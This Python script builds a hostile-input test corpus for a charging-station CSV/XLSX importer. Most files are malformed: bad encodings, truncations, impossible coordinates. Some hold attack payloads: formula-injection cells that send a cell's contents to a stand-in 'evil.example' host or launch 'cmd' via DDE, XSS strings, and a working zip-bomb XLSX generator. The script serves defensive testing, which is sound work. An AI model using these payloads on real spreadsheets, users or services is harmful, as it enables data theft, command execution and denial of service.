"""Build the hostile-input corpus: broken, odd and malicious station files.

    python tests/data/hostile/make_corpus.py            # (re)writes the small files next to this script
    python tests/data/hostile/make_corpus.py --large D  # also the large ones, into directory D

The small files are committed; the large ones (a 50 MB CSV, an XLSX that
unpacks to gigabytes, one of 4.5 million rows, a CSV of 10,000 columns, a cell
of 200,000 characters) are built by the test into a temporary directory.
Every file is deterministic: the same script gives the same bytes.
"""

from __future__ import annotations

import argparse
import csv
import io
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent

HEADER = [
    "station_id", "station_name", "description", "latitude", "longitude", "street", "street_number", "city",
    "zip", "country", "phone", "fax", "web", "email", "cpo_id", "is_open_24", "open_hours", "notes",
    "evse_id", "connector_type", "speed_kw",
]


def station_rows(count: int = 3, *, start: int = 1) -> list[dict[str, str]]:
    """Valid canonical rows: ``count`` stations in Mannheim, two connectors (one EVSE) each."""
    rows = []
    for n in range(start, start + count):
        station = {
            "station_id": f"DE*8PS*S{n:05d}",
            "station_name": f"Marktplatz {n}",
            "description": "Two sockets behind the town hall",
            "latitude": f"{49.48 + n * 0.0001:.6f}",
            "longitude": f"{8.46 + n * 0.0001:.6f}",
            "street": "Luisenring",
            "street_number": f"{n}a",
            "city": "Mannheim",
            "zip": "68159",
            "country": "DE",
            "phone": "+49 621 1234567",
            "fax": "",
            "web": "https://example.com",
            "email": "service@example.com",
            "cpo_id": "DE*8PS",
            "is_open_24": "yes",
            "open_hours": "",
            "notes": "Level -1",
        }
        rows.append({**station, "evse_id": f"DE*8PS*E{n:05d}*1", "connector_type": "Type2", "speed_kw": "22"})
        rows.append({**station, "evse_id": f"DE*8PS*E{n:05d}*1", "connector_type": "Schuko", "speed_kw": "3.7"})
    return rows


def to_csv(rows: list[dict[str, str]], *, header: list[str] = HEADER, delimiter: str = ",",
           line_end: str = "\n", write_header: bool = True) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header, delimiter=delimiter, lineterminator=line_end,
                            extrasaction="ignore")
    if write_header:
        writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def with_values(rows: list[dict[str, str]], index: int | slice, **values: str) -> list[dict[str, str]]:
    """A copy of ``rows`` with ``values`` set on one row (or a slice of rows)."""
    rows = [dict(r) for r in rows]
    chosen = rows[index] if isinstance(index, slice) else [rows[index]]
    for row in chosen:
        row.update(values)
    return rows


def xlsx_bytes(rows: list[dict[str, str]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Stations"
    sheet.append(HEADER)
    for row in rows:
        sheet.append([row[c] for c in HEADER])
    out = io.BytesIO()
    book.save(out)
    return _deterministic_zip(out.getvalue())


def _deterministic_zip(data: bytes) -> bytes:
    """The same zip with fixed timestamps, so a rebuilt corpus has identical bytes."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            fixed = zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0))
            fixed.compress_type = zipfile.ZIP_DEFLATED
            data = source.read(info.filename)
            if info.filename == "docProps/core.xml":  # openpyxl stamps the time of saving
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", data)
            target.writestr(fixed, data)
    return out.getvalue()


# --- the small, committed files ----------------------------------------------------------------

def small_files() -> dict[str, bytes]:
    base = station_rows()
    utf8 = lambda text: text.encode("utf-8")  # noqa: E731
    png = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489") + b"\x00" * 64
    junk = random.Random(7).randbytes(4096)
    umlaut_rows = with_values(base, slice(None), street="Große Straße", city="Müllheim", station_name="Bäckerei Grün")
    files: dict[str, bytes] = {
        "empty.csv": b"",
        "whitespace_only.csv": b"   \n\t\n  \r\n \n",
        "binary_junk.csv": junk,
        "png_renamed.csv": png,
        "gzip_renamed.csv": _gzip(utf8(to_csv(base))),
        "json_as_csv.csv": utf8('[{"station_id": "DE*8PS*S00001", "latitude": 49.48, "longitude": 8.46}]\n'),
        "html_error_page.csv": utf8("<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head>"
                                    "<body><h1>502 Bad Gateway</h1></body></html>\n"),
        "header_only.csv": utf8(to_csv([])),
        "no_header.csv": utf8(to_csv(base, write_header=False)),
        "title_block_only.csv": utf8("Ladesäulenregister\nStand: 01.07.2019\n\nQuelle: Bundesnetzagentur\n"),
        "missing_latitude_column.csv": utf8(to_csv(base, header=[c for c in HEADER if c != "latitude"])),
        "duplicated_headers.csv": utf8(_duplicated_header_csv(base)),
        "unbalanced_quotes.csv": utf8(to_csv(base).replace("Marktplatz 2", '"Marktplatz 2', 1)),
        "utf8_bom.csv": b"\xef\xbb\xbf" + utf8(to_csv(umlaut_rows)),
        "utf16_no_bom.csv": to_csv(umlaut_rows).encode("utf-16-le"),
        "cp1252.csv": to_csv(umlaut_rows).encode("cp1252"),
        "mixed_encodings.csv": _mixed_encodings(umlaut_rows),
        "nul_bytes.csv": utf8(to_csv(with_values(base, 0, station_name="Markt\x00platz", city="Mann\x00heim"))),
        "crlf_line_endings.csv": utf8(to_csv(base, line_end="\r\n")),
        "cr_line_endings.csv": utf8(to_csv(base, line_end="\r")),
        "decimal_commas_semicolons.csv": utf8(to_csv(
            [dict(r, latitude=r["latitude"].replace(".", ","), longitude=r["longitude"].replace(".", ","),
                  speed_kw=r["speed_kw"].replace(".", ",")) for r in base],
            delimiter=";")),
        "formula_injection.csv": utf8(to_csv(_formula_rows(base))),
        "html_script_names.csv": utf8(to_csv(with_values(
            base, slice(0, 2), station_name="<script>alert(1)</script>",
            description='<img src=x onerror="alert(2)"><b>bold</b>'))),
        "emoji_rtl_names.csv": utf8(to_csv(with_values(
            with_values(base, slice(0, 2), station_name="⚡ Ladepunkt 🚗🔌", city="Mannheim 🏙️"),
            slice(2, 4), station_name="محطة شحن \u202eevil\u202c", notes="תחנת טעינה"))),
        "very_long_cell.csv": utf8(to_csv(with_values(base, slice(0, 2), station_name="A" * 100_000))),
        "columns_300.csv": utf8(_wide_csv(base, 300)),
        "swapped_coordinates.csv": utf8(to_csv(_swapped(base))),
        "coordinates_out_of_range.csv": utf8(to_csv(with_values(base, slice(0, 2), latitude="123.4",
                                                                longitude="-200"))),
        "coordinates_not_numbers.csv": utf8(to_csv(with_values(base, slice(0, 2), latitude="north",
                                                               longitude="8°27'"))),
        "din_evse_ids.csv": utf8(to_csv(with_values(base, slice(0, 2), evse_id="+49*8PS*E123"))),
        "invalid_evse_ids.csv": utf8(to_csv(with_values(base, slice(0, 2), evse_id="not an evse id"))),
        "duplicate_station_disagreeing.csv": utf8(to_csv(_disagreeing(base))),
        "evse_reused_across_stations.csv": utf8(to_csv(with_values(base, slice(2, 4), evse_id="DE*8PS*E00001*1"))),
        "unknown_connector_type.csv": utf8(to_csv(with_values(base, 0, connector_type="Type7 Hyperplug"))),
        "negative_speed.csv": utf8(to_csv(with_values(base, 0, speed_kw="-22"))),
        "speed_1000kw.csv": utf8(to_csv(with_values(base, 0, speed_kw="1000"))),
        "invalid_country.csv": utf8(to_csv(with_values(base, slice(None), country="XX"))),
        "missing_required_values.csv": utf8(to_csv(with_values(base, slice(0, 2), station_name="", city=""))),
        "truncated.xlsx": xlsx_bytes(base)[:700],
        "xlsx_empty_sheet.xlsx": _empty_xlsx(),
        "csv_renamed.xlsx": utf8(to_csv(base)),
    }
    return files


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, mtime=0)


def _duplicated_header_csv(rows: list[dict[str, str]]) -> str:
    """``latitude`` twice, with different values: which one is meant cannot be known."""
    header = HEADER + ["latitude"]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([row[c] for c in HEADER] + ["12.5"])
    return out.getvalue()


def _mixed_encodings(rows: list[dict[str, str]]) -> bytes:
    """UTF-8 lines and cp1252 lines in one file, as a hand-merged export ends up."""
    lines = to_csv(rows).splitlines(keepends=True)
    return b"".join(line.encode("utf-8" if n % 2 else "cp1252") for n, line in enumerate(lines))


def _formula_rows(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    rows = with_values(rows, slice(0, 2), station_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    rows = with_values(rows, slice(2, 4), station_name="+cmd|' /C calc'!A0", notes="@SUM(1+1)*cmd|' /C calc'!A0")
    return with_values(rows, slice(4, 6), description="-1+1", speed_kw="=1+21")


def _wide_csv(rows: list[dict[str, str]], columns: int) -> str:
    extra = [f"extra_{n:03d}" for n in range(columns - len(HEADER))]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(HEADER + extra)
    for row in rows:
        writer.writerow([row[c] for c in HEADER] + [f"x{n}" for n in range(len(extra))])
    return out.getvalue()


def _swapped(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    """The first station's latitude and longitude exchanged: a point in the sea off Somalia, not Mannheim."""
    rows = [dict(r) for r in rows]
    for row in rows[:2]:
        row["latitude"], row["longitude"] = row["longitude"], row["latitude"]
    return rows


def _disagreeing(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    """Station 1's two rows disagree on name and city: which one is right cannot be known."""
    return with_values(rows, 1, station_name="Bahnhof", city="Heidelberg")


def _empty_xlsx() -> bytes:
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    return _deterministic_zip(out.getvalue())


# --- the large files, built at test time ---------------------------------------------------------

def big_csv(path: Path, *, size: int = 50 * 1024 * 1024) -> Path:
    """A valid canonical CSV of at least ``size`` bytes (about 230,000 connector rows)."""
    header = to_csv([])
    block_rows = station_rows(500)
    with open(path, "w", encoding="utf-8", newline="") as out:
        out.write(header)
        written, start = len(header), 1
        while written < size:
            rows = station_rows(500, start=start)
            text = to_csv(rows, write_header=False)
            out.write(text)
            written += len(text.encode())
            start += len(block_rows)
    return path


def zip_bomb_xlsx(path: Path, *, gigabytes: float = 2.5) -> Path:
    """A well-formed XLSX whose one sheet unpacks to ``gigabytes`` of XML (a file of a few MB).

    The sheet is one deflate stream of a repeated block, each block ending in a full
    flush so its compressed bytes are identical; sizes and CRC in the zip are true,
    so only a reader that checks the declared size before inflating is safe.
    """
    block = b'<c t="inlineStr"><is><t>x</t></is></c>' * (1 << 15)
    repeats = int(gigabytes * 1e9 // len(block))
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">')
    tail = b"</row></sheetData></worksheet>"
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head_z = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block_z = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail_z = compressor.compress(tail) + compressor.flush(zlib.Z_FINISH)
    size = len(head) + repeats * len(block) + len(tail)
    if size >= 0xFFFFFFFF:
        raise ValueError("keep the bomb under 4 GiB: no zip64 here")
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    compressed_size = len(head_z) + repeats * len(block_z) + len(tail_z)

    # The other parts of a minimal workbook, written normally.
    parts = io.BytesIO()
    with zipfile.ZipFile(parts, "w", zipfile.ZIP_DEFLATED) as book:
        for name, text in _workbook_parts().items():
            book.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), text)
    small = zipfile.ZipFile(io.BytesIO(parts.getvalue()))

    entries: list[tuple[bytes, int, int, int, int, int]] = []  # name, crc, csize, size, method, offset
    with open(path, "wb") as out:
        for info in small.infolist():
            data = small.read(info.filename)
            data_z = zlib.compress(data, 9)[2:-4]
            entries.append(_local(out, info.filename.encode(), zlib.crc32(data), len(data_z), len(data)))
            out.write(data_z)
        entries.append(_local(out, b"xl/worksheets/sheet1.xml", crc, compressed_size, size))
        out.write(head_z)
        for _ in range(repeats):
            out.write(block_z)
        out.write(tail_z)
        directory_start = out.tell()
        for name, entry_crc, csize, usize, offset in entries:
            out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x5821, entry_crc, csize,
                                  usize, len(name), 0, 0, 0, 0, 0, offset) + name)
        directory_size = out.tell() - directory_start
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), directory_size,
                              directory_start, 0))
    return path


def _local(out, name: bytes, crc: int, csize: int, size: int) -> tuple[bytes, int, int, int, int]:
    offset = out.tell()
    out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5821, crc, csize, size, len(name), 0) + name)
    return name, crc, csize, size, offset


def _workbook_parts() -> dict[str, str]:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    return {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
            'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>'),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}"><Relationship Id="rId1" '
            f'Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
            '<sheet name="Stations" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}"><Relationship Id="rId1" '
            f'Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
    }


def tall_xlsx(path: Path, *, rows: int = 4_500_000) -> Path:
    """An XLSX of ``rows`` one-cell rows (43 MB, unpacking to 250 MB: inside every zip limit).

    Written as a stream (row XML into the zip member as it is made): neither the rows nor the sheet are
    ever held whole, which also makes it quick enough to build in a test.
    """
    values = random.Random(21)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, text in _workbook_parts().items():
            book.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), text)
        member = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=(2024, 1, 1, 0, 0, 0))
        member.compress_type = zipfile.ZIP_DEFLATED
        with book.open(member, "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns='
                        b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for start in range(1, rows + 1, 10_000):
                sheet.write("".join(f'<row r="{r}"><c r="A{r}"><v>{values.randrange(10**6)}</v></c></row>'
                                    for r in range(start, min(start + 10_000, rows + 1))).encode())
            sheet.write(b"</sheetData></worksheet>")
    return path


def wide_csv(path: Path, *, columns: int = 10_000, rows: int = 2_000) -> Path:
    """A CSV of ``columns`` x ``rows`` one-digit cells (40 MB)."""
    digits = random.Random(10)
    with open(path, "w", encoding="utf-8", newline="") as out:
        out.write(",".join(f"c{i}" for i in range(columns)) + "\n")
        for _ in range(rows):
            out.write(",".join(str(digits.randrange(10)) for _ in range(columns)) + "\n")
    return path


def long_cell_csv(path: Path, *, characters: int = 200_000) -> Path:
    """A valid file but for one cell longer than any station field (and than the csv module's field limit)."""
    rows = with_values(station_rows(), 2, description="x" * characters)
    path.write_text(to_csv(rows), encoding="utf-8")
    return path


LARGE = {"big_50mb.csv": big_csv, "zip_bomb.xlsx": zip_bomb_xlsx, "tall_4500000_rows.xlsx": tall_xlsx,
         "wide_10000_columns.csv": wide_csv, "long_cell.csv": long_cell_csv}


def write_small(directory: Path = HERE) -> list[Path]:
    paths = []
    for name, data in small_files().items():
        path = directory / name
        path.write_bytes(data)
        paths.append(path)
    return paths


def write_large(directory: Path) -> list[Path]:
    directory.mkdir(parents=True, exist_ok=True)
    return [build(directory / name) for name, build in LARGE.items()]


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--large", type=Path, help="also build the large files into this directory")
    arguments = parser.parse_args()
    for written in write_small():
        print(written.relative_to(HERE.parents[2]))
    if arguments.large:
        for written in write_large(arguments.large):
            print(written, written.stat().st_size)
